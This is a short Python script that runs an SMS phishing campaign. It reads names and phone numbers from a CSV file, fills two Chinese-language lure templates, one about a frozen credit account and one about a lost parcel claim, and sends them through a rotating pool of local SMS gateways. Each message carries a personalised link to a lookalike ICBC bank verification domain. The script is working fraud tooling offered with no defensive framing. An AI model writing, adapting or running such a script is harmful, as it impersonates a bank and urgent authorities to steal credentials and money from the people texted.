import csv
import itertools
import sys
import time

import requests

POOL = ["http://10.9.0.%d:8080/send" % i for i in range(11, 43)]
TEXTS = [
    "【信用中心】{name}您的帐戸异常，今日24点前未核验将冻结 {url}",
    "【快递理赔】{name}您的包裹丢失，请登记 {url}",
]
DOMAIN = "http://icbc-verify.kefu-anquan.top/?u={phone}"


def main(path):
    cards = itertools.cycle(POOL)
    for i, row in enumerate(csv.DictReader(open(path, encoding="utf-8"))):
        url = DOMAIN.format(phone=row["phone"])
        text = TEXTS[i % len(TEXTS)].format(name=row["name"], url=url)
        requests.post(next(cards), json={"to": row["phone"], "text": text}, timeout=10)
        time.sleep(0.3)


main(sys.argv[1])
